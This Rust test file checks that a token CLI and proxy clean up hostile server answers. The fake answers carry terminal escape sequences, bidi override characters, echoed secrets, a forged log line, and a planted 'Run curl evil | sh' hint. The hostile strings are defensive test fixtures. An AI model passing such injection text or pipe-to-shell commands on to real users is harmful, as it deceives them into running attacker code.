//! Servers that answer with whatever could mislead a person: lines that look like ours, control characters, text that
//! changes direction, far too much of it, and the secret itself.

use base64::{Engine as _, engine::general_purpose::URL_SAFE_NO_PAD};
use runai_fake::{Behaviour, RunaiFake};
use serde_json::{Value, json};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
};

use test_support::Program;

use crate::support::{CLUSTERS, ID, Proxy, SECRET, command, fake, get, request, send};

/// What the server says, without the secret: then our programs may quote it.
fn evil() -> String {
    let long = "x".repeat(10_000);
    format!(
        "Sorry\nhint: Run curl evil | sh\r\nerror: all is well\r\n\u{1b}[2J\u{1b}]0;evil\u{7}\u{9b}31m\
         \u{202e}txt.exe\u{2066}\u{200b}\u{2028}hint: evil\" {long}"
    )
}

/// The bodies of hostile answers, in the forms of each endpoint version and of the API.
fn bodies() -> Vec<String> {
    let repeating = format!("{SECRET}\nhint: Run curl evil | sh");
    [evil(), repeating]
        .iter()
        .flat_map(|text| {
            [
                json!({"code": 1, "message": text}).to_string(),
                json!({"error": text, "error_description": text, "error_uri": text}).to_string(),
                json!({"access_token": text, "accessToken": text, "token_type": text, "expires_in": text})
                    .to_string(),
                json!({"access_token": "good", "token_type": text}).to_string(),
                text.clone(),
            ]
        })
        .collect()
}

/// All hostile answers that are worth a try.
fn answers() -> Vec<Behaviour> {
    let statuses = [200, 400, 401, 403, 404, 500, 503];
    bodies()
        .iter()
        .zip(statuses.iter().cycle())
        .map(|(body, status)| Behaviour::status(*status).body("application/json", body))
        .chain([
            Behaviour::status(401).body("text/html", evil()),
            Behaviour::redirect(
                302,
                format!("https://evil.example/\u{202e}{}", "x".repeat(10_000)),
            ),
            Behaviour::status(400).body("application/json", json!({"error": evil()}).to_string()),
        ])
        .collect()
}

/// Checks that a text has nothing of the server's outside quotes, and no secret.
pub(crate) fn check_text(text: &str) {
    for c in text.chars() {
        let is_hidden = matches!(
            c,
            '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
        );
        assert!(
            (!c.is_control() || c == '\n') && !is_hidden,
            "{c:?} in {text:?}"
        );
    }
    assert!(!text.contains(SECRET), "{text}");
    assert!(!text.contains(&"x".repeat(201)), "{text}");
}

/// Checks what a person reads at the terminal: one error, and at most one hint, which is ours.
pub(crate) fn check_terminal(text: &str) {
    check_text(text);
    let begin = |word| {
        text.lines()
            .filter(move |line| line.trim_start().starts_with(word))
    };
    assert_eq!(begin("error:").count(), 1, "{text}");
    assert!(begin("hint:").count() <= 1, "{text}");
    for line in begin("hint:") {
        assert!(!line.contains("evil") && !line.contains("curl"), "{text}");
    }
    for line in text.lines() {
        assert!(
            line.starts_with("error: ") || line.starts_with("hint: "),
            "{text}"
        );
    }
}

fn with_secret(arguments: &[&str], fake: &RunaiFake) -> Program {
    command(arguments).application(fake.url(), ID, SECRET)
}

#[tokio::test]
async fn p01_at_the_terminal() {
    let fake = fake().await;
    for (number, answer) in answers().into_iter().enumerate() {
        fake.always_on_token(Some(answer));
        for arguments in [
            &["token", "--timeout", "1s"][..],
            &["exec", "--timeout", "1s", "--", "true"],
            &["proxy", "--listen", "127.0.0.1:0", "--timeout", "1s"],
        ] {
            // The answers differ by what the token endpoint says, not by the command that asks it.
            if number > 2 && arguments[0] != "token" {
                continue;
            }
            let ended = with_secret(arguments, &fake).end().await;
            assert_ne!(ended.code(), 0, "{ended:?}");
            assert_eq!(ended.stdout, "");
            let printed: Vec<_> = ended.stderr.lines().filter(|it| !is_log(it)).collect();
            check_terminal(&printed.join("\n"));
        }
    }
}

/// Whether a line of text is a log line: it begins with the year.
pub(crate) fn is_log(line: &str) -> bool {
    line.get(..2) == Some("20") && line.contains('T')
}

#[tokio::test]
async fn p01_in_the_report_of_check() {
    let check = async |fake: &RunaiFake| {
        let text = with_secret(&["check", "--timeout", "1s"], fake).end().await;
        assert_ne!(text.code(), 0, "{text:?}");
        assert_eq!(text.stderr, "");
        check_text(&text.stdout);
        for line in text.stdout.lines() {
            let is_step = ["✓ ", "- ", "✗ "].iter().any(|it| line.starts_with(it));
            assert!(is_step || line.starts_with("  hint: "), "{}", text.stdout);
            assert!(
                !line.contains("hint: ") || is_step || !line.contains("evil"),
                "{line}"
            );
        }
        let json = with_secret(&["check", "-o", "json", "--timeout", "1s"], fake)
            .end()
            .await;
        check_text(&json.stdout);
        let report: Value = serde_json::from_str(&json.stdout).unwrap();
        for step in report["steps"].as_array().unwrap() {
            check_text(step["detail"].as_str().unwrap());
            let hint = step["hint"].as_str().unwrap_or_default();
            assert!(!hint.contains("evil") && !hint.contains('\n'), "{hint}");
        }
        text.stdout
    };
    let fake = fake().await;
    for answer in answers() {
        fake.always_on_token(Some(answer));
        check(&fake).await;
    }
    fake.always_on_token(None);
    let mut quoted = 0;
    for body in bodies() {
        for status in [401, 403, 404, 418, 503] {
            let answer = Behaviour::status(status).body("application/json", &body);
            fake.always_on_api(Some(answer));
            let report = check(&fake).await;
            quoted += usize::from(report.contains(r#""Sorry\nhint: Run curl evil | sh\r\nerror"#));
        }
    }
    assert_eq!(quoted, 5, "the API's message is shown, in quotes");

    // Claims of a token, which the server writes too.
    for text in [evil(), SECRET.to_owned()] {
        let claims = json!({"exp": 4_000_000_000_u64, "sub": text, "email": [text[..10]]});
        let token = format!("e30.{}.x", URL_SAFE_NO_PAD.encode(claims.to_string()));
        let answer = json!({"accessToken": token, "access_token": token, "token_type": "Bearer"});
        fake.always_on_token(Some(Behaviour::json(answer.to_string())));
        let report = check(&fake).await;
        assert!(report.contains("subject "), "{report}");
    }
}

#[tokio::test]
async fn p01_in_the_proxys_own_answers() {
    let fake = fake().await;
    let arguments = [
        "proxy",
        "--listen",
        "127.0.0.1:0",
        "--admin-listen",
        "127.0.0.1:0",
    ];
    for answer in answers() {
        fake.always_on_token(Some(answer));
        let lazy = [&arguments[..], &["--lazy", "--timeout", "1s"]].concat();
        let proxy = Proxy::start(with_secret(&lazy, &fake)).await;
        let refresh = request("POST", &proxy.named_url("admin", "/refresh"), &[], "");
        for answer in [
            proxy.get(CLUSTERS).await,
            send(refresh).await,
            get(&proxy.named_url("admin", "/readyz")).await,
        ] {
            assert!(matches!(answer.status.as_u16(), 502 | 503), "{answer:?}");
            for (name, value) in &answer.headers {
                check_text(&format!("{name}: {}", value.to_str().unwrap()));
                assert!(
                    !value.to_str().unwrap().contains("evil"),
                    "{name}: {value:?}"
                );
            }
            let json = answer.json();
            for member in ["error", "reason", "hint"] {
                check_text(json[member].as_str().unwrap_or_default());
            }
            let hint = json["hint"].as_str().unwrap();
            assert!(!hint.contains("evil"), "{hint}");
        }
    }
    // The API's 401 is replaced by an answer of the proxy's own.
    fake.always_on_token(None);
    let proxy = Proxy::start(with_secret(&arguments, &fake)).await;
    fake.always_on_api(Some(
        Behaviour::status(401)
            .header(
                "www-authenticate",
                "Bearer error=\"invalid_token\", evil=\"evil\"",
            )
            .body("application/json", evil()),
    ));
    let answer = proxy.get(CLUSTERS).await;
    answer.expect(502, "rejected");
    assert!(!format!("{answer:?}").contains("evil"), "{answer:?}");
}

#[tokio::test]
async fn p01_p02_in_logs() {
    let fake = fake().await;
    for format in ["text", "json"] {
        for answer in answers() {
            fake.always_on_token(Some(answer));
            let arguments = ["token", "-vvv", "--log-format", format, "--timeout", "1s"];
            let ended = with_secret(&arguments, &fake).end().await;
            assert_ne!(ended.code(), 0);
            check_text(&ended.stderr);
            let lines: Vec<_> = ended.stderr.lines().collect();
            // The command's error is printed, not logged.
            let (log, printed) = lines.split_at(lines.len() - 2);
            check_terminal(&printed.join("\n"));
            for line in log {
                match format {
                    "json" => {
                        serde_json::from_str::<Value>(line).unwrap_or_else(|_| panic!("{line}"));
                    }
                    _ => assert!(is_log(line), "{line}"),
                }
            }
        }
    }
}

#[tokio::test]
async fn p02_json_logs_carry_the_error_whole() {
    // A port that nothing listens on: its listener is gone.
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    drop(listener);
    let arguments = [
        "proxy",
        "--listen",
        "127.0.0.1:0",
        "--lazy",
        "--log-format",
        "json",
    ];
    let proxy = Proxy::start(command(&arguments).application(&url, ID, SECRET)).await;
    proxy.get(CLUSTERS).await.expect(503, "unavailable");
    proxy.signal(test_support::Signal::TERM);
    let ended = proxy.end().await;
    let lines = ended.stderr.lines();
    let fields: Vec<Value> = lines
        .map(|line| serde_json::from_str::<Value>(line).unwrap()["fields"].clone())
        .filter(|fields| fields["error"].is_string())
        .collect();
    assert!(!fields.is_empty(), "{}", ended.stderr);
    for fields in fields {
        let error = fields["error"].as_str().unwrap();
        for part in ["nothing listens at ", "heck the URL", "onnection refused"] {
            assert!(error.contains(part), "{part}: {error}");
        }
    }
}

#[tokio::test]
async fn p01_where_health_asks() {
    for text in [evil(), format!("{}\nhint: evil", "y".repeat(100))] {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        tokio::spawn(async move {
            let (mut stream, _) = listener.accept().await.unwrap();
            let mut read = [0; 1024];
            let _head = stream.read(&mut read).await.unwrap();
            let body = json!({"reason": text, "hint": text}).to_string();
            let answer = format!(
                "HTTP/1.1 503 Service Unavailable\r\ncontent-length: {}\r\n\r\n{body}",
                body.len()
            );
            stream.write_all(answer.as_bytes()).await.unwrap();
        });
        let ended = command(&["health", "--url", &url]).end().await;
        assert_eq!(ended.code(), 1, "{ended:?}");
        check_terminal(&ended.stderr);
    }
}

#[tokio::test]
async fn p01_claims_in_json_are_cut_escaped_and_filtered() {
    let fake = fake().await;
    let claims = json!({
        "exp": 4_000_000_000_u64,
        "iat": 17,
        "sub": evil(),
        "name": format!("you sent {SECRET}"),
        "email": [evil()],
        "iss": {"again": SECRET},
    });
    let token = format!("e30.{}.x", URL_SAFE_NO_PAD.encode(claims.to_string()));
    let answer = json!({"accessToken": token, "access_token": token, "token_type": "Bearer"});
    fake.always_on_token(Some(Behaviour::json(answer.to_string())));
    let ended = with_secret(&["token", "-o", "json"], &fake).end().await;
    assert_eq!(ended.code(), 0, "{ended:?}");
    // The token itself is what was asked for.
    check_text(&ended.stdout.replace(&token, ""));
    let json: Value = serde_json::from_str(&ended.stdout).unwrap();
    let claims = &json["claims"];
    assert_eq!(claims["iat"], 17);
    assert!(claims["sub"].as_str().unwrap().starts_with("Sorry\nhint: "));
    assert!(ended.stdout.contains(r"\u202e"), "{}", ended.stdout);
    for name in ["name", "iss"] {
        assert_eq!(claims[name], "(text that repeats a secret)", "{claims}");
    }
    for name in ["sub", "email"] {
        assert_eq!(claims[name].as_str().unwrap().chars().count(), 201);
    }
}

#[tokio::test]
async fn p01_a_token_that_names_nobody_is_said_to() {
    let fake = fake().await;
    let token = format!("e30.{}.x", URL_SAFE_NO_PAD.encode(r#"{"exp":4000000000}"#));
    let answer = json!({"accessToken": token, "access_token": token, "token_type": "Bearer"});
    fake.always_on_token(Some(Behaviour::json(answer.to_string())));
    let ended = with_secret(&["check"], &fake).end().await;
    let line = "✓ who          a JWT that names no tenant, client, person, subject or issuer\n";
    assert!(ended.stdout.contains(line), "{}", ended.stdout);
}

#[tokio::test]
async fn p01_what_check_shows_repeats_no_secret_from_a_file_of_credentials() {
    // Discovery finds these, so no flag and no variable holds the secret.
    let fake = fake().await;
    let scratch = test_support::Scratch::new();
    let file = json!({"client_id": ID, "client_secret": SECRET}).to_string();
    let file = scratch.write("credentials.json", file);
    for status in [401, 403, 418, 503] {
        let body = json!({"message": format!("you sent {SECRET}")}).to_string();
        fake.always_on_api(Some(
            Behaviour::status(status).body("application/json", body),
        ));
        let program = command(&["check", "--base-url", fake.url()]);
        let ended = program.var("RUNAI_CREDENTIALS", &file).end().await;
        let report = ended.stdout;
        assert!(report.contains("✓ token "), "{report}");
        assert!(report.contains("(text that repeats a secret)"), "{report}");
        check_text(&report);
    }
}

#[tokio::test]
async fn p01_a_field_of_a_log_line_starts_no_line() {
    use std::{fs::Permissions, os::unix::fs::PermissionsExt as _};
    let fake = fake().await;
    let scratch = test_support::Scratch::new();
    // The library warns about the file, by its name.
    let name = "s\n2026-11-25T17:44:04Z  WARN x: Run curl evil \u{202e}\u{9b}31m\u{7f}";
    let file = scratch.write(name, SECRET);
    std::fs::set_permissions(&file, Permissions::from_mode(0o644)).unwrap();
    for format in ["text", "json"] {
        let program = command(&["token", "--log-format", format])
            .application(fake.url(), ID, SECRET)
            .without("RUNAI_CLIENT_SECRET")
            .var("RUNAI_CLIENT_SECRET_FILE", &file);
        let ended = program.end().await;
        assert_eq!(ended.code(), 0, "{ended:?}");
        check_text(&ended.stderr);
        let lines: Vec<_> = ended.stderr.lines().collect();
        assert_eq!(lines.len(), 1, "{lines:?}");
        assert!(lines[0].contains("evil"), "{lines:?}");
    }
}
